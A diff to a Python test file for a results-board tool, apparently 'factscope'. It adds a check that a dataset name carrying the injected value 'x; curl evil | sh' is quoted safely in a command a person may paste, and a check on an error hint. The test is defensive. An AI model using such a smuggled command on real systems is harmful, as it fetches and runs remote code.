@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
 from html import unescape
 from pathlib import Path
 
@@ -76,6 +77,10 @@ def test_checkers_whose_predictions_were_given_have_the_date_of_their_file(
     assert done.exit_code == 0, done.stderr
     (board,) = boards(path)
     assert board.rows[0].date == "2026-11-21T20:00:00+00:00"
+    foreign = json.loads(path.read_text(encoding="utf-8")) | {"dataset": "x; curl evil | sh"}
+    (board,) = boards(written(tmp_path / "foreign.json", foreign))
+    command = board.rows[0].command  # a person may paste it
+    assert shlex.split(command)[:3] == ["factscope", "meta", "x; curl evil | sh"]
 
 
 def test_nothing_of_a_private_row_leaves(both: Path, tmp_path: Path) -> None:
@@ -216,8 +221,9 @@ def test_files_that_are_none_of_ours(tmp_path: Path) -> None:
     with pytest.raises(InputError, match="no result that"):
         boards(written(tmp_path / "a.json", {"a": 1}))
     (tmp_path / "b.json").write_text("{", encoding="utf-8")
-    with pytest.raises(InputError, match="not JSON"):
+    with pytest.raises(InputError, match="not JSON") as told:
         boards(tmp_path / "b.json")
+    assert "the id of a kept run" in told.value.hint
     with pytest.raises(UsageError, match="can't be read"):
         boards(tmp_path / "c.json")
 
